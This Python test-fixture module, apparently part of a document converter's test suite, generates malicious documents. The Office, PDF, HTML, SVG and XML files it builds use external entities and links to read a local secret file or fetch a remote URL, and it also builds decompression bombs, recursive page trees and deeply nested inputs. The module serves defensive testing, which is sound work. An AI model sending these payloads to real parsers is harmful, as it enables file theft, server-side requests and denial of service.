"""Documents that mean harm, written here byte by byte."""

from __future__ import annotations

import io
import zipfile
import zlib
from collections.abc import Callable, Mapping
from pathlib import Path

from tests.documents import files

_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006"
_DRAWING = "http://schemas.openxmlformats.org/drawingml/2006"
_WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
SIDE = 20_000  # pixels of a picture that takes 400 MB once it is unpacked


def relationship(kind: str, target: str, *, name: str = "rId9", mode: str = "External") -> str:
    return f'<Relationship Id="{name}" Type="{_OFFICE}/{kind}" Target="{target}" TargetMode="{mode}"/>'


def changed(
    office: bytes, name: str, old: str, new: str, more: Mapping[str, str | bytes] | None = None
) -> bytes:
    """An Office document with `old` replaced in one of its members, and with more members."""
    with zipfile.ZipFile(io.BytesIO(office)) as archive:
        members: dict[str, str | bytes] = {item: archive.read(item) for item in archive.namelist()}
        text = archive.read(name).decode()
    assert old in text
    return files.archive({**members, name: text.replace(old, new), **(more or {})})


# ---- what is somewhere else --------------------------------------------------------------------------------


def linked_picture(target: str) -> bytes:
    """A Word document whose picture is somewhere else (CVE-2025-11849)."""
    body, rels = _picture_in_word('r:link="rId9"'), relationship("image", target)
    return files.docx("before the picture", body=body, rels=rels)


def remote_template(url: str) -> bytes:
    """A Word document whose template and whose second half are to be loaded from a server."""
    settings = f'<w:settings xmlns:w="{_WORD}"><w:attachedTemplate/></w:settings>'
    template = (
        f'<Relationships xmlns="{_PACKAGE}/relationships">'
        f"{relationship('attachedTemplate', url)}</Relationships>"
    )
    return files.docx(
        "the first half",
        body='<w:altChunk r:id="rId8"/>',
        rels=relationship("settings", "settings.xml", mode="Internal")
        + relationship("aFChunk", url, name="rId8"),
        more={"word/settings.xml": settings, "word/_rels/settings.xml.rels": template},
    )


def remote_slide_picture(url: str) -> bytes:
    """A presentation whose picture is on a server."""
    return _with_slide_picture('r:link="rId9"', relationship("image", url))


def remote_sheet(url: str) -> bytes:
    """A workbook that takes a value from a workbook on a server."""
    link = f"<externalLink><externalBook r:id='rId9' xmlns:r='{_OFFICE}'/></externalLink>"
    rels = (
        f'<Relationships xmlns="{_PACKAGE}/relationships">{relationship("externalLinkPath", url)}'
        "</Relationships>"
    )
    book = changed(
        files.xlsx([["here"]]),
        "xl/workbook.xml",
        "</workbook>",
        '<externalReferences><externalReference r:id="rId9"/></externalReferences></workbook>',
        {"xl/externalLinks/externalLink1.xml": link, "xl/externalLinks/_rels/externalLink1.xml.rels": rels},
    )
    own = relationship("externalLink", "externalLinks/externalLink1.xml", mode="Internal")
    linked = changed(book, "xl/_rels/workbook.xml.rels", "</Relationships>", f"{own}</Relationships>")
    value = f'<row r="2"><c r="A2"><f>WEBSERVICE("{url}")</f><v>1</v></c></row></sheetData>'
    return changed(linked, "xl/worksheets/sheet1.xml", "</sheetData>", value)


def remote_stream(url: str) -> bytes:
    """A PDF that opens an address, and whose page's contents are in a file on a server."""
    document = files.pdf(["hello"])
    at = document.index(b"<< /Length", document.index(b"/Contents"))
    file = b"<< /F << /FS /URL /F (%b) >> /Length" % url.encode()
    document = document[:at] + document[at:].replace(b"<< /Length", file, 1)
    action = b"<< /Type /Catalog /OpenAction << /S /URI /URI (%b) >>" % url.encode()
    return document.replace(b"<< /Type /Catalog", action)


def fetching_page(secret: Path, url: str) -> bytes:
    """A page that would load things."""
    return (
        f'<html><head><base href="{url}"><meta http-equiv="refresh" content="0;url={url}">'
        f'<link rel="stylesheet" href="{url}"><style>@import url({url});</style><script src="{url}"></script>'
        f'</head><p>hello</p><iframe src="{url}"></iframe><img src="{url}" srcset="{url} 2x">'
        f'<object data="file://{secret}"></object><embed src="file://{secret}"></html>'
    ).encode()


def fetching_drawing(secret: Path, url: str) -> bytes:
    """An SVG with a picture, a style sheet and an entity that are somewhere else."""
    return (
        f'<?xml version="1.0"?><?xml-stylesheet href="{url}"?>'
        f'<!DOCTYPE svg PUBLIC "-//X//X" "{url}" [<!ENTITY secret SYSTEM "file://{secret}">]>'
        f'<svg xmlns="http://www.w3.org/2000/svg"><text>hello &secret;</text><image href="{url}"/></svg>'
    ).encode()


def foreign_entity(secret: Path, url: str) -> bytes:
    """An XML page whose text is in a file of this machine, and whose definition is on a server."""
    return (
        f'<?xml version="1.0"?><!DOCTYPE html SYSTEM "{url}" [<!ENTITY secret SYSTEM "file://{secret}">'
        f'<!ENTITY % remote SYSTEM "{url}"> %remote;]>'
        '<html xmlns="http://www.w3.org/1999/xhtml" xmlns:xi="http://www.w3.org/2001/XInclude">'
        f'<body><p>hello &secret;</p><xi:include href="{url}" parse="text"/></body></html>'
    ).encode()


def foreign_cmap(path: Path) -> bytes:
    """A PDF whose font names a file of this machine as its character map (CVE-2025-64512)."""
    name = str(path.with_suffix("")).replace("/", "#2F").encode()
    font = b"<< /Type /Font /Subtype /Type0 /BaseFont /F /Encoding /%b /DescendantFonts [<< >>] >>" % name
    plain = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"
    return files.pdf(["hello"]).replace(plain, font)


# ---- what is larger than it looks --------------------------------------------------------------------------


def page_loop() -> bytes:
    """A PDF whose pages have themselves for children."""
    return files.pdf(["hello"]).replace(b"/Kids [4 0 R]", b"/Kids [2 0 R]")


def far_cell() -> bytes:
    """A workbook with two cells, the second in the last row and column there are."""
    cell = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>there</t></is></c></row></sheetData>'
    return changed(files.xlsx([["here"]]), "xl/worksheets/sheet1.xml", "</sheetData>", cell)


def huge_picture_in_word() -> bytes:
    return files.docx(
        "before the picture",
        body=_picture_in_word('r:embed="rId9"'),
        rels=relationship("image", "media/image1.png", mode="Internal"),
        more={"word/media/image1.png": _huge_png()},
    )


def huge_picture_on_a_slide() -> bytes:
    rels = relationship("image", "../media/image1.png", mode="Internal")
    return _with_slide_picture('r:embed="rId9"', rels, {"ppt/media/image1.png": _huge_png()})


def huge_picture_on_a_page() -> bytes:
    """A PDF with a line of text and a picture of a byte for each pixel."""
    packed = _zeros(SIDE * SIDE)
    picture = (
        b"<< /Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray /BitsPerComponent 8"
        b" /Filter /FlateDecode /Length %d >>\nstream\n%b\nendstream"
    ) % (SIDE, SIDE, len(packed), packed)
    return files.pdf_with_picture(["before the picture"], picture)


def _huge_png() -> bytes:
    """Black and white: a few KB here, 50 MB as rows of bits, 400 MB as a byte for each pixel."""
    header = SIDE.to_bytes(4) + SIDE.to_bytes(4) + bytes([1, 0, 0, 0, 0])
    rows = _zeros((1 + SIDE // 8) * SIDE)
    parts = ((b"IHDR", header), (b"IDAT", rows), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        len(data).to_bytes(4) + kind + data + zlib.crc32(kind + data).to_bytes(4) for kind, data in parts
    )


def _zeros(number: int) -> bytes:
    """So many zeros, packed, without ever having them all."""
    packer, block = zlib.compressobj(), bytes(1_000_000)
    packed = [packer.compress(block) for _ in range(number // len(block))]
    return b"".join([*packed, packer.compress(block[: number % len(block)]), packer.flush()])


def _picture_in_word(blip: str) -> str:
    return (
        f'<w:p><w:r><w:drawing><wp:inline xmlns:wp="{_DRAWING}/wordprocessingDrawing">'
        f'<a:graphic xmlns:a="{_DRAWING}/main"><a:graphicData><pic:pic xmlns:pic="{_DRAWING}/picture">'
        f"<pic:blipFill><a:blip {blip}/></pic:blipFill></pic:pic></a:graphicData></a:graphic>"
        "</wp:inline></w:drawing></w:r></w:p>"
    )


def _with_slide_picture(blip: str, rels: str, more: Mapping[str, str | bytes] | None = None) -> bytes:
    picture = (
        '<p:pic><p:nvPicPr><p:cNvPr id="9" name="Picture" descr="a picture"/><p:cNvPicPr/><p:nvPr/>'
        f"</p:nvPicPr><p:blipFill><a:blip {blip}/></p:blipFill><p:spPr/></p:pic></p:spTree>"
    )
    slides = files.pptx(("Plan", "before the picture"))
    shown = changed(slides, "ppt/slides/slide1.xml", "</p:spTree>", picture, more)
    types = changed(
        shown,
        "[Content_Types].xml",
        '<Default Extension="xml"',
        '<Default Extension="png" ContentType="image/png"/><Default Extension="xml"',
    )
    return changed(types, "ppt/slides/_rels/slide1.xml.rels", "</Relationships>", f"{rels}</Relationships>")


Make = Callable[[Path, str], bytes]
"""Given a file that must not be read and an address that must not be asked."""

LINKED: dict[str, Make] = {
    "linked file.docx": lambda secret, url: linked_picture(f"file://{secret}"),
    "linked path.docx": lambda secret, url: linked_picture(str(secret)),
    "linked page.docx": lambda secret, url: linked_picture(url),
    "template.docx": lambda secret, url: remote_template(url),
    "picture.pptx": lambda secret, url: remote_slide_picture(url),
    "value.xlsx": lambda secret, url: remote_sheet(url),
    "stream.pdf": lambda secret, url: remote_stream(url),
    "map.pdf": lambda secret, url: foreign_cmap(secret),
    "fetching.html": fetching_page,
    "drawing.svg": fetching_drawing,
    "drawing.html": fetching_drawing,
    "entity.xml": foreign_entity,
    "entity.html": foreign_entity,
    "polyglot.pdf": lambda secret, url: files.pdf(["hello"]) + fetching_page(secret, url),
    "polyglot.html": lambda secret, url: fetching_page(secret, url) + b"%PDF-1.7\n1 0 obj\n",
}

LARGE: dict[str, Make] = {
    "nested.html": lambda secret, url: b"<div>" * 20_000 + b"deep" + b"</div>" * 20_000,
    "loop.pdf": lambda secret, url: page_loop(),
    "far.xlsx": lambda secret, url: far_cell(),
    "deep.json": lambda secret, url: b"[" * 100_000,
    "wrong.txt": lambda secret, url: files.xlsx([["a workbook"]]),
    "huge.docx": lambda secret, url: huge_picture_in_word(),
    "huge.pptx": lambda secret, url: huge_picture_on_a_slide(),
    "huge.pdf": lambda secret, url: huge_picture_on_a_page(),
}
